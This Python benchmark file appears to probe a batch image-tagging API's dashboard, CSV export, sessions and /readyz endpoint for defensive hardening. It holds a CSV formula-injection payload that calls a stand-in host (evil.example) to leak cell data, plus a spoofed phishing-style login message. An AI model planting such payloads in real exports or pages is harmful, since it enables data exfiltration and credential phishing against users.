"""Hostile-client probes: the dashboard, its sessions, thumbnails, manual tags, the CSV export and ``/readyz``.

Jobs are made through the API; their items are then answered by writing results straight into the API's SQLite
file (``api_for`` puts it beside the input root), as a worker would, so no engine is needed. The thumbnail probe
is the memory figure: 8 concurrent thumbnails of a 64-megapixel PNG, the API process's resident memory sampled
while they are made (its decoder children are reported beside it, not counted in it).
"""

from __future__ import annotations

import csv
import io
import re
import resource
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx

from benchmarks.hostile_api import Row, Target
from jobs.exports.csv_writer import tags_of_cell
from vlbatch.db import job_store, leases, outcomes
from vlbatch.db.models import Job
from vlbatch.db.session import make_engine, make_sessionmaker

ENV: dict[str, str] = {"VLBATCH_API_RECONCILE": "false"}

MB = 1024**2
RSS_LIMIT = 300 * MB
THUMBNAILS = 8
SIDE = 8000  # 64 megapixels
FORMULA = ("=", "+", "-", "@", "\t", "\r")
MARKER = outcomes.Marker(model="m", model_revision=None, pipeline_version="1", options_hash="h")


def _db_url(target: Target) -> str:
    return f"sqlite:///{target.root.parent / 'vlbatch.db'}"  # where ``api_for`` keeps the API's database


def _create(target: Target, images: list[str], *, tenant: str = "a") -> str:
    body = {"model": "m", "items": [{"images": [p], "ref": f"r{i}"} for i, p in enumerate(images)]}
    r = httpx.post(f"{target.base}/v1/jobs/tagging", json=body, headers=target.headers(tenant), timeout=60)
    r.raise_for_status()
    return str(r.json()["id"])


def _answer(target: Target, job_id: str, answers: list[dict[str, Any] | None], *, finish: bool = True) -> list[int]:
    """Write each item's answer (None fails it) as a worker would; the item ids in seq order."""
    engine = make_engine(_db_url(target))
    try:
        with make_sessionmaker(engine)() as s:
            ids: list[int] = []
            for chunk_id in job_store.chunks_of(s, job_id=job_id):
                items = sorted(
                    leases.claim_chunk(s, chunk_id=chunk_id, owner="probe", lease=timedelta(minutes=5)),
                    key=lambda i: i.seq,
                )
                done = [
                    outcomes.Outcome(
                        item_id=item.id,
                        job_id=job_id,
                        output=answers[item.seq],
                        raw_text=None,
                        prompt_tokens=1,
                        completion_tokens=1,
                        error_code=None if answers[item.seq] is not None else "decode_error",
                        error_message=None if answers[item.seq] is not None else "probe: failed on purpose",
                    )
                    for item in items
                ]
                outcomes.record_outcomes(s, outcomes=done, markers={job_id: MARKER})
                if finish:
                    leases.finish_chunk(s, chunk_id=chunk_id, owner="probe")
                ids += [i.id for i in items]
            s.commit()
            return ids
    finally:
        engine.dispose()


def _set_job(target: Target, job_id: str, **values: Any) -> None:
    engine = make_engine(_db_url(target))
    try:
        with make_sessionmaker(engine)() as s:
            job = s.get(Job, job_id)
            assert job is not None
            for name, value in values.items():
                setattr(job, name, value)
            s.commit()
    finally:
        engine.dispose()


@contextmanager
def _browser(target: Target, tenant: str = "a") -> Iterator[httpx.Client]:
    with httpx.Client(base_url=target.base, follow_redirects=False, timeout=120) as client:
        r = client.post("/ui/login", data={"key": target.tenant_keys[tenant]})
        if r.status_code != 303:
            raise RuntimeError(f"dashboard login answered {r.status_code}: {r.text[:200]}")
        yield client


def _rss(pid: int | str, field: str = "VmRSS") -> int:
    try:
        with open(f"/proc/{pid}/status") as fh:
            return next((int(line.split()[1]) * 1024 for line in fh if line.startswith(f"{field}:")), 0)
    except OSError:
        return 0


def _children(pid: int) -> list[int]:
    found: list[int] = []
    for task in Path(f"/proc/{pid}/task").glob("*/children"):
        try:
            found += [int(c) for c in task.read_text().split()]
        except OSError:
            continue
    return found


def _sampled(pid: int, work: Callable[[], list[httpx.Response]]) -> tuple[list[httpx.Response], int, int]:
    """``work()``'s answers, with the peak resident memory of ``pid`` and of its children (summed) meanwhile."""
    peaks = [0, 0]
    stop = threading.Event()

    def sample() -> None:
        while not stop.is_set():
            peaks[0] = max(peaks[0], _rss(pid))
            peaks[1] = max(peaks[1], sum(_rss(c) for c in _children(pid)))
            time.sleep(0.02)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        answers = work()
    finally:
        stop.set()
        sampler.join()
    return answers, peaks[0], peaks[1]


def probe_thumbnails(target: Target) -> Row:
    huge = target.root / "huge.png"
    code = f"from PIL import Image; Image.new('RGB', ({SIDE}, {SIDE}), (40, 90, 200)).save({str(huge)!r})"
    subprocess.run([sys.executable, "-c", code], check=True)
    job_id = _create(target, [str(huge)] * THUMBNAILS)
    ids = _answer(target, job_id, [None] * THUMBNAILS, finish=False)  # also never-processed items get one
    with _browser(target) as browser:
        before = _rss(target.pid)

        def work() -> list[httpx.Response]:
            with ThreadPoolExecutor(THUMBNAILS) as pool:
                return list(pool.map(lambda i: browser.get(f"/ui/jobs/{job_id}/thumbs/{i}.jpg"), ids))

        started = time.monotonic()
        answers, peak, children = _sampled(target.pid, work)
        took = time.monotonic() - started
    codes = [a.status_code for a in answers]
    got = (
        f"{codes.count(200)}/{THUMBNAILS} 200 in {took:.1f} s; API RSS {before / MB:.0f} -> peak {peak / MB:.0f} MB; "
        f"decoder children peak {children / MB:.0f} MB (not in the API)"
    )
    sent = f"{THUMBNAILS} concurrent thumbnails of a {huge.stat().st_size // 1024} KB {SIDE}x{SIDE} PNG"
    return Row("D2 thumbnails of 64 MP images", sent, got, ok=codes == [200] * THUMBNAILS and peak < RSS_LIMIT)


def probe_readyz(target: Target) -> Iterator[Row]:
    soft, hard = resource.prlimit(target.pid, resource.RLIMIT_FSIZE)
    resource.prlimit(target.pid, resource.RLIMIT_FSIZE, (0, hard))  # no file of the API may grow: a full disk
    try:
        full = httpx.get(f"{target.base}/readyz", timeout=30)
    finally:
        resource.prlimit(target.pid, resource.RLIMIT_FSIZE, (soft, hard))
    again = httpx.get(f"{target.base}/readyz", timeout=30)
    yield Row(
        "D5 /readyz on a full disk",
        "GET /readyz while the API process may not grow any file (RLIMIT_FSIZE 0), then with space again",
        f"{full.status_code} {full.json().get('code', '')}; then {again.status_code}",
        ok=full.status_code == 503 and again.status_code == 200,
    )
    holder = sqlite3.connect(target.root.parent / "vlbatch.db", isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    started = time.monotonic()
    try:
        locked = httpx.get(f"{target.base}/readyz", timeout=60)
    finally:
        took = time.monotonic() - started
        holder.execute("ROLLBACK")
        holder.close()
    yield Row(
        "D5 /readyz while the write lock is held",
        "GET /readyz while another connection holds BEGIN IMMEDIATE (busy timeout 30 s)",
        f"{locked.status_code} {locked.json().get('code', '')} after {took:.1f} s",
        ok=locked.status_code == 503 and took < 10,
    )


def probe_retry(target: Target) -> Iterator[Row]:
    cancelled = _create(target, [f"{target.root}/nowhere/a.jpg", f"{target.root}/nowhere/b.jpg"])
    _answer(target, cancelled, [None, {"tags": ["x"]}], finish=False)
    httpx.post(f"{target.base}/v1/jobs/{cancelled}/cancel", headers=target.headers()).raise_for_status()
    batch_job = _create(target, [f"{target.root}/nowhere/c.jpg"])
    _answer(target, batch_job, [None])
    _set_job(target, batch_job, pipeline="chat")  # what a batch's job is: a request pipeline's
    with _browser(target) as browser:
        a = browser.post(f"/ui/jobs/{cancelled}/retry-failed")
        b = browser.post(f"/ui/jobs/{batch_job}/retry-failed")
        status = httpx.get(f"{target.base}/v1/jobs/{cancelled}", headers=target.headers()).json()
    yield Row(
        "D7 dashboard retry of a cancelled job",
        "POST /ui/jobs/<cancelled job with a failed item>/retry-failed",
        f"{a.status_code} {_code(a)}; job {status['status']}, failed {status['counts'].get('failed')}",
        ok=a.status_code == 409 and status["status"] == "cancelled" and status["counts"].get("failed") == 1,
    )
    yield Row(
        "D7 dashboard retry of a batch's job",
        "POST /ui/jobs/<a chat (request-kind) job>/retry-failed",
        f"{b.status_code} {_code(b)}",
        ok=b.status_code == 409 and _code(b) == "batch_owned_job",
    )


def _code(r: httpx.Response) -> str:
    try:
        return str(r.json().get("code", ""))
    except ValueError:
        return r.headers.get("content-type", "")


def probe_framing(target: Target) -> Row:
    r = httpx.get(f"{target.base}/ui/login")
    xfo, csp = r.headers.get("x-frame-options"), r.headers.get("content-security-policy", "")
    return Row(
        "D13 clickjacking",
        "GET /ui/login",
        f"X-Frame-Options: {xfo}; CSP: {csp}",
        ok=xfo == "DENY" and "frame-ancestors 'none'" in csp,
    )


def probe_tags(target: Target) -> Iterator[Row]:
    job_id = _create(target, [f"{target.root}/nowhere/t.jpg"])
    (item_id,) = _answer(target, job_id, [{"tags": ["sea", "@SUM(1)"]}])
    path = f"{target.base}/v1/jobs/{job_id}/items/{item_id}/tags"
    codes = []
    for n in range(3):
        r = httpx.patch(path, json={"add": [f"t{n}-{i}" for i in range(50)]}, headers=target.headers())
        codes.append(f"{r.status_code} {_code(r)}".strip())
    yield Row(
        "D15 manual tags per result",
        "3 PATCHes of 50 new tags each (cap 64)",
        ", ".join(codes),
        ok=codes[0].startswith("200") and all(c == "409 too_many_manual_tags" for c in codes[1:]),
    )

    job_id = _create(target, [f"{target.root}/nowhere/u.jpg"])
    (item_id,) = _answer(target, job_id, [{"tags": ["sea", "@SUM(1)"]}])
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "rock;roll", "a;=1+1"]
    path = f"{target.base}/v1/jobs/{job_id}/items/{item_id}/tags"
    httpx.patch(path, json={"add": hostile}, headers=target.headers()).raise_for_status()
    text = httpx.get(f"{target.base}/v1/jobs/{job_id}/results.csv", headers=target.headers()).text
    formulas = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row if c.startswith(FORMULA)]
    (row,) = list(csv.DictReader(io.StringIO(text)))
    whole = tags_of_cell(row["tags"]) == ["sea", "@SUM(1)", *hostile]
    yield Row(
        "D16 CSV tags read with ';' as separator",
        "tags =HYPERLINK(..), rock;roll, a;=1+1 beside the model's @SUM(1); results.csv split on ';'",
        f"{len(formulas)} formula cells; tags read back whole: {whole}",
        ok=not formulas and whole,
    )


def probe_login_text(target: Target) -> Row:
    spoof = "Your account is locked. Call +1 555 0100 and read out your key."
    page = httpx.get(f"{target.base}/ui/login", params={"error": spoof}).text
    shown = "Call +1 555" in page
    return Row("D18 login page text", "GET /ui/login?error=<a made-up message>", f"text shown: {shown}", ok=not shown)


def probe_sessions(target: Target) -> Row:
    with _browser(target) as browser:
        cookie = next(iter(browser.cookies.values()))
        name = next(iter(browser.cookies.keys()))
        as_key = httpx.get(f"{target.base}/v1/jobs", headers={"Authorization": f"Bearer {cookie}"})
        browser.post("/ui/logout")
    after = httpx.get(f"{target.base}/ui", cookies={name: cookie}, follow_redirects=False)
    holds_key = bool(re.search(re.escape(target.tenant_keys["a"]), cookie))
    got = (
        f"cookie holds the key: {holds_key}; as Bearer: {as_key.status_code}; copied cookie after logout: "
        f"{after.status_code} -> {after.headers.get('location')}"
    )
    ok = not holds_key and as_key.status_code == 401 and after.status_code == 303
    return Row("D20 dashboard session", "log in, use the cookie as a Bearer key, log out, reuse the cookie", got, ok)


def probes(target: Target) -> Iterator[Row]:
    yield probe_thumbnails(target)
    yield from probe_readyz(target)
    yield from probe_retry(target)
    yield probe_framing(target)
    yield from probe_tags(target)
    yield probe_login_text(target)
    yield probe_sessions(target)
